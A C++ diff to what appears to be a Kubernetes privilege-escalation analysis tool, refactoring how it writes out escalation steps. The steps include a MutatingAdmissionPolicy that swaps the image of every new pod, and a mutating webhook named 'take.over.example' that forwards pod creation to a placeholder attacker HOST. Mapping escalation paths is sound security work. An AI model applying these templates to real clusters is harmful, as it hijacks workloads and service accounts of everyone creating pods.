@@ -1,3 +1,4 @@
+#include "graph/escalation/requests/read_object.h"
 #include "graph/escalation/requests/text.h"
 #include "graph/escalation/techniques/all.h"
 
@@ -43,6 +44,10 @@ void edges(const Evaluation& at) {
 constexpr std::string_view kPolicySpec =
     R"(,"spec":{"failurePolicy":"Ignore","reinvocationPolicy":"Never","matchConstraints":{"resourceRules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}]},"mutations":[{"patchType":"JSONPatch","jsonPatch":{"expression":"[JSONPatch{op: \"replace\", path: \"/spec/containers/0/image\", value: \"IMAGE\"}]"}}]})";
 
+requests::ObjectPlace place(std::string_view resource, const StepView& view) {
+  return {kAdmissionGroup, "v1", resource, {}, requests::object_name(view.edge)};
+}
+
 StepText text(const StepView& view) {
   const bool policy_exists = requests::uses(view.edge, kUpdateMutatingPolicy) ||
                              (requests::uses(view.edge, kPatchMutatingPolicy) &&
@@ -51,10 +56,12 @@ StepText text(const StepView& view) {
     const auto json =
         requests::object_json("admissionregistration.k8s.io/v1", "MutatingAdmissionPolicy", {},
                               requests::object_name(view.edge), kPolicySpec);
-    return {requests::overwrite_object(view, kPatchMutatingPolicy, json),
+    const auto written = requests::overwrite_versioned(
+        view, kPatchMutatingPolicy, place("mutatingadmissionpolicies", view), json);
+    return {written.request,
             fmt::format("a binding puts the policy into force ({}): it now changes the image and "
-                        "the account of the next pod that anybody makes",
-                        rbac::since_text(rbac::Feature::MutatingAdmissionPolicy))};
+                        "the account of the next pod that anybody makes{}",
+                        rbac::since_text(rbac::Feature::MutatingAdmissionPolicy), written.because)};
   }
   if (requests::uses(view.edge, kCreateMutatingPolicy)) {
     const auto name = requests::fresh_name(view, requests::object_name(view.edge));
@@ -74,11 +81,14 @@ StepText text(const StepView& view) {
   const auto json = requests::object_json(
       "admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", {}, name,
       R"(,"webhooks":[{"name":"take.over.example","sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore","clientConfig":{"url":"https://HOST/mutate","caBundle":"BASE64-OF-CA"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}]}])");
-  const bool exists = !requests::uses(view.edge, kCreateWebhook);
-  return {
-      exists ? requests::overwrite_object(view, kPatchWebhook, json)
-             : requests::send_object(view, kCreateWebhook, json),
-      "a mutating webhook changes the image and the account of the next pod that anybody makes"};
+  std::string because =
+      "a mutating webhook changes the image and the account of the next pod that anybody makes";
+  if (requests::uses(view.edge, kCreateWebhook)) {
+    return {requests::send_object(view, kCreateWebhook, json), because};
+  }
+  const auto written = requests::overwrite_versioned(
+      view, kPatchWebhook, place("mutatingwebhookconfigurations", view), json);
+  return {written.request, because + written.because};
 }
 
 }  // namespace
